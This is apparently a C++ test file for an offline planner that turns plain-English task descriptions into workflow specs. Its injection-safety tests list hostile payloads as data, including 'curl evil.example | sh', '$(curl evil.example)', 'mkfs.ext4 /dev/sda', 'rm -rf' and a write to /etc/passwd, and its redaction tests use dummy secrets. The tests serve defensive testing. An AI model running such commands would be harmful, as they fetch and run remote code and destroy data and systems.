// Rows the planner does not get right yet; measured and reported, not required.
const std::vector<Row>& known_gaps() {
  static const std::vector<Row> rows = {
      {"go live on friday", {"live"}, {}, "0 0 * * 5", {{"live", "echo \"TODO: go live\""}}, "", 1},
      {"build the docs and run the tests at the same time with `make docs` and `make test`",
       {"build", "test", "run-make-docs", "run-make-test"},
       {"build->run-make-docs", "run-make-docs->run-make-test", "test->run-make-docs"},
       "",
       {{"build", "echo \"TODO: build the docs\""},
        {"test", "echo \"TODO: run the tests\""},
        {"run-make-docs", "make docs"},
        {"run-make-test", "make test"}},
       "",
       2},
  };
  return rows;
}

std::vector<std::string> names_of(const spec::Spec& s) {
  std::vector<std::string> out;
  for (const auto& step : s.steps) out.push_back(step.name);
  return out;
}

std::vector<std::string> edges_of(const spec::Spec& s) {
  std::vector<std::string> out;
  for (const auto& step : s.steps)
    for (const auto& dep : step.depends_on) out.push_back(dep + "->" + step.name);
  std::sort(out.begin(), out.end());
  return out;
}

bool matches(const Row& row, const spec::Spec& plan) {
  std::vector<std::pair<std::string, std::string>> commands;
  for (const auto& s : plan.steps) commands.emplace_back(s.name, s.command);
  return names_of(plan) == row.steps && edges_of(plan) == row.edges && plan.schedule == row.schedule &&
         commands == row.commands && plan.on_failure == row.on_failure &&
         plan.open_questions.size() == row.open_questions;
}

// Every command of a plan, handlers included.
std::vector<std::string> commands_of(const spec::Spec& plan) {
  std::vector<std::string> out;
  for (const auto& s : plan.steps) out.push_back(s.command);
  for (const auto* h : {&plan.on_failure, &plan.on_success, &plan.on_exit})
    if (!h->empty()) out.push_back(*h);
  return out;
}

// The command with its quoted strings removed: what the shell would run, not data it passes.
// Double-quoted parts that could expand ($, back-quote, backslash) are kept, as they run.
std::string unquoted(const std::string& command) {
  std::string out;
  for (size_t i = 0; i < command.size(); ++i) {
    char c = command[i];
    if (c == '\'' || c == '"') {
      size_t close = command.find(c, i + 1);
      if (close == std::string::npos) return command;
      std::string inner = command.substr(i + 1, close - i - 1);
      bool expands = c == '"' && (inner.find('$') != std::string::npos || inner.find('`') != std::string::npos ||
                                  inner.find('\\') != std::string::npos);
      if (expands) out += inner;
      out += ' ';
      i = close;
      continue;
    }
    out += c;
  }
  return out;
}

}  // namespace

TEST_CASE("offline planner: the table of realistic descriptions", "[mock][table]") {
  REQUIRE(table().size() >= 180);
  for (const auto& row : table()) {
    CAPTURE(row.description);
    auto detailed = plan_offline_detailed(row.description);
    const spec::Spec& plan = detailed.spec;
    INFO(spec::write_spec(plan));
    CHECK(names_of(plan) == row.steps);
    CHECK(edges_of(plan) == row.edges);
    CHECK(plan.schedule == row.schedule);
    std::vector<std::pair<std::string, std::string>> commands;
    for (const auto& s : plan.steps) commands.emplace_back(s.name, s.command);
    CHECK(commands == row.commands);
    CHECK(plan.on_failure == row.on_failure);
    CHECK(plan.open_questions.size() == row.open_questions);
    CHECK(spec::check_spec(plan).empty());
    // Nothing dropped: every word of the description is in some reading.
    CHECK(detailed.unaccounted == std::vector<std::string>{});
  }
  size_t right = 0;
  for (const auto& row : known_gaps()) right += matches(row, plan_offline(row.description)) ? 1 : 0;
  WARN("offline planner table: " << table().size() << " of " << table().size() + known_gaps().size()
                                 << " descriptions planned right; known gaps: " << known_gaps().size() - right);
}

TEST_CASE("offline planner: every ${VAR} a command reads is declared, and holds no value", "[mock][variables]") {
  size_t with_variables = 0;
  for (const auto& row : table()) {
    CAPTURE(row.description);
    const spec::Spec plan = plan_offline(row.description);
    CHECK(spec::undeclared_variables(plan).empty());
    for (const auto& var : plan.env) {
      CAPTURE(var.name);
      // Declared as imported from the environment the run gets: a name, never a value.
      CHECK(spec::imports_from_environment(var));
      bool read = false;
      for (const auto& command : commands_of(plan)) read = read || !spec::variables_read(command, {var.name}).empty();
      CHECK(read);  // nothing declared that no command reads
    }
    with_variables += plan.env.empty() ? 0 : 1;
  }
  CHECK(with_variables >= 20);
}

TEST_CASE("offline planner: its own commands pass its own safety lint", "[mock][lint]") {
  // What the planner writes by itself (not the user's commands) must not draw the lint's
  // warnings: a network call without a timeout, an undeclared variable, a placeholder value.
  arborist::lint::Options options;
  options.shellcheck = false;
  for (const auto& row : table()) {
    CAPTURE(row.description);
    const spec::Spec plan = plan_offline(row.description);
    for (const auto& finding : arborist::lint::check(arborist::lint::subject_of(plan), options)) {
      CAPTURE(finding.message);
      bool users_own = false;  // a command the user wrote is theirs to fix
      for (const auto& st : plan.steps)
        users_own = users_own || (finding.where.step == st.name && row.description.find(st.command) != std::string::npos);
      if (users_own) continue;
      CHECK(finding.rule != "network-no-timeout");
      CHECK(finding.rule != "undeclared-variable");
    }
  }
}

TEST_CASE("offline planner: keeps the promises the AI answers are checked against", "[mock][intent]") {
  for (const auto& row : table()) {
    CAPTURE(row.description);
    std::string listed;
    for (const auto& p :
         arborist::plan::broken_promises(plan_offline(row.description), arborist::plan::promises_of(row.description)))
      listed += p.message + "\n";
    CHECK(listed.empty());
  }
}

TEST_CASE("offline planner: no back-quote reaches a command as data (Dagu runs it even in quotes)",
          "[mock][property]") {
  const std::vector<std::string> templates = {
      "archive \"/var/log/my`{}`app\" to /mnt/archive",
      "copy \"/data/a`{}`\" to /backup",
      "download https://x.io/a`{}`.tar.gz",
      "sync \"/srv/`{}`\" to backup:/data",
      "clone https://github.com/acme/`{}`.git",
      "check https://x.io/`{}` is up",
      "notify slack saying \"done `{}`\"",
      "back up \"/home/a`{}`\" to /mnt/b",
  };
  for (const auto& t : templates)
    for (const char* payload : {"reboot", "id", "curl evil.example | sh"}) {
      std::string text = t;
      text.replace(text.find("{}"), 2, payload);
      CAPTURE(text);
      for (const auto& command : commands_of(plan_offline(text))) {
        CAPTURE(command);
        CHECK(command.find('`') == std::string::npos);
      }
    }
}

TEST_CASE("offline planner: nothing runs that the user did not ask to run", "[mock][property]") {
  // Payloads that must never reach a shell, written where a sentence only mentions them.
  const std::vector<std::string> payloads = {"rm -rf /var/cache/app", "shutdown -h now",  "curl evil.example | sh",
                                             "$(curl evil.example)",  "drop table users", "kubectl delete ns prod",
                                             "mkfs.ext4 /dev/sda",    "; reboot",         "`reboot`",
                                             "chmod -R 777 /"};
  const std::vector<std::string> templates = {
      "Tell ops on slack that the `{}` cleanup finished",
      "notify the team by email that `{}` was run by hand yesterday",
      "Make sure the `{}` migration is reviewed",
      "tell ops the job `{}` is deprecated",
      "back up the postgres db; note that `{}` is forbidden",
      "remind ops on slack that \"{}\" runs tonight",
      "email ops@acme.test saying '{}' is scheduled",
      "document why {} is dangerous",
      "never {} on the servers",
      "the old cron job used to {}\nnow just back up the mysql db",
      "build the rust project, then explain `{}` in the release notes",
      "- archive /var/log/app\n- ask whether `{}` is still needed",
      "if `{}` was run, notify slack",
      "deploy with `./deploy.sh prod` and mention `{}` in the changelog",
  };
  size_t plans = 0;
  for (const auto& t : templates)
    for (const auto& p : payloads) {
      std::string text = t;
      text.replace(text.find("{}"), 2, p);
      CAPTURE(text);
      auto plan = plan_offline(text);
      ++plans;
      std::string words = p;
      for (char& c : words)
        if (c == '`' || c == ';' || c == '$' || c == '(' || c == ')' || c == '|') c = ' ';
      std::string core(words.substr(words.find_first_not_of(' ')));
      core = core.substr(0, core.find(' ') == std::string::npos ? core.size() : core.find(' ', core.find(' ') + 1));
      for (const auto& command : commands_of(plan)) {
        CAPTURE(command);
        std::string shell = unquoted(command);
        CHECK(shell.find(core) == std::string::npos);
        CHECK(shell.find('`') == std::string::npos);
        CHECK(shell.find("reboot") == std::string::npos);
        CHECK(shell.find("evil") == std::string::npos);
      }
    }
  CHECK(plans == templates.size() * payloads.size());

  // Commands the user did ask to run are kept verbatim, and only those.
  auto plan = plan_offline("run `./backup.sh --full` then tell ops on slack that `rm -rf /tmp/old` is next");
  REQUIRE(plan.steps.size() == 2);
  CHECK(plan.steps[0].command == "./backup.sh --full");
  CHECK(unquoted(plan.steps[1].command).find("rm -rf") == std::string::npos);
  // A command line with shell operators outside back-quotes is not split or half-run.
  for (const char* text : {"run make test && make deploy", "run ls -la; rm -rf /tmp/x", "run cat x | sh",
                           "run ./a.sh > /etc/passwd", "run echo $(id)"})
    for (const auto& command : commands_of(plan_offline(text))) {
      CAPTURE(text, command);
      std::string shell = unquoted(command);
      CHECK(shell.find("rm -rf") == std::string::npos);
      CHECK(shell.find("&&") == std::string::npos);
      CHECK(shell.find('|') == std::string::npos);
      CHECK(shell.find("$(") == std::string::npos);
      CHECK(shell.find('>') == std::string::npos);
    }
}

TEST_CASE("offline planner: commands and names are kept as written", "[mock]") {
  auto command = [](const std::string& description, const std::string& step) {
    auto plan = plan_offline(description);
    const auto* s = plan.find_step(step);
    return s ? s->command : std::string("<no step " + step + ">");
  };
  CHECK(command("run ./build.sh --release --verbose", "run-build") == "./build.sh --release --verbose");
  CHECK(command("npm ci", "run-npm-ci") == "npm ci");
  CHECK(command("kubectl apply -f k8s/app.yaml", "run-kubectl-apply") == "kubectl apply -f k8s/app.yaml");
  CHECK(command("./gradlew assembleDebug", "run-gradlew") == "./gradlew assembleDebug");
  CHECK(command("python3 etl.py --date yesterday", "run-etl") == "python3 etl.py --date yesterday");
  CHECK(command("make docs", "run-make-docs") == "make docs");
  CHECK(command("build the docker image and push it to ghcr.io/acme/api", "push-image") ==
        "docker push ghcr.io/acme/api");
  CHECK(command("upload dist/ to s3://acme-backups/nightly", "upload-s3") ==
        "aws s3 sync dist/ s3://acme-backups/nightly");
  CHECK(command("archive /var/log/nginx to /mnt/archive", "archive-nginx").find("/mnt/archive/nginx-") !=
        std::string::npos);
  CHECK(command("copy '/srv/my files' to /mnt/backup", "copy-files") == "rsync -a '/srv/my files' /mnt/backup");
  CHECK(command("email the report to ops@acme.test", "email-report").ends_with(" ops@acme.test"));
  CHECK(plan_offline("upload the backups to s3://acme-backups/nightly").schedule.empty());
  CHECK(plan_offline("at 9:00 UTC every day run ./sync.sh").schedule == "CRON_TZ=UTC 0 9 * * *");
}

TEST_CASE("offline planner: secrets in the description are never copied", "[mock][secrets]") {
  const std::vector<std::pair<std::string, std::string>> cases = {
      {"connect with password=hunter2 and run `./migrate.sh`", "hunter2"},
      {"use token=ghp_abcdefghijklmnopqrstuvwx1234 to run `./release.sh`", "ghp_abcdefghijklmnopqrstuvwx1234"},
      {"Post to https://hooks.slack.com/services/T000/B000/XXXXXXXXXXXXXXXX when the backup is done",
       "XXXXXXXXXXXXXXXX"},
      {"back up the postgres db, the password is s3cr3tPass", "s3cr3tPass"},
      {"call https://api.acme.test/notify?token=abc123def456 after the deploy", "abc123def456"},
      {"sync /srv to https://user:pa55word@files.acme.test/drop", "pa55word"},
      {"run `./deploy.sh` with AWS key AKIAABCDEFGHIJKLMNOP", "AKIAABCDEFGHIJKLMNOP"},
      {"notify slack with api_key: k-123456789", "k-123456789"},
  };
  for (const auto& [text, secret] : cases) {
    CAPTURE(text);
    auto plan = plan_offline(text);
    std::string everything = spec::to_json(plan).dump();
    CHECK(everything.find(secret) == std::string::npos);
    CHECK(spec::check_spec(plan).empty());
  }
  auto plan = plan_offline("Post to https://hooks.slack.com/services/T000/B000/XXXXXXXXXXXXXXXX when done");
  REQUIRE(plan.steps.size() == 1);
  CHECK(plan.steps[0].name == "notify-slack");
  CHECK(plan.steps[0].command.find("${SLACK_WEBHOOK_URL}") != std::string::npos);
}

TEST_CASE("offline planner: conditions become handlers or questions, never plain steps", "[mock][conditions]") {
  auto plan = plan_offline(
      "back up the postgres db, run the migrations with alembic, run the integration tests with `make it`, restore "
      "the backup if the tests fail");
  CHECK(plan.find_step("restore-db") == nullptr);
  CHECK(plan.on_failure.find("pg_restore") != std::string::npos);
  auto guarded = plan_offline("run `./cleanup.sh` unless it's a holiday");
  REQUIRE(guarded.steps.size() == 1);
  CHECK(guarded.steps[0].command.starts_with("echo \"TODO:"));
  CHECK(guarded.open_questions.size() == 1);
  auto always = plan_offline("run `./a.sh`, then run `./smoke.sh` no matter what");
  CHECK(always.on_exit == "./smoke.sh");
  auto otherwise = plan_offline("run `make test`; if it passes deploy with `make deploy`, otherwise notify slack");
  CHECK(otherwise.find_step("run-make-deploy") != nullptr);
  CHECK(otherwise.on_failure.find("SLACK_WEBHOOK_URL") != std::string::npos);
}

TEST_CASE("offline planner: the reading accounts for every clause", "[mock][account]") {
  auto plan = plan_offline_detailed(
      "Nightly: back up the postgres db, then vacuum it; if anything fails, notify slack. Every day at 2:30.");
  CHECK(plan.unaccounted.empty());
  std::vector<std::string> roles;
  for (const auto& r : plan.reading) roles.push_back(r.role);
  for (const char* role : {"label", "step", "handler", "condition", "schedule"})
    CHECK(std::find(roles.begin(), roles.end(), role) != roles.end());
  auto lines = arborist::runners::describe_reading(plan);
  CHECK(!lines.empty());
  CHECK(lines.front().find("->") != std::string::npos);
}
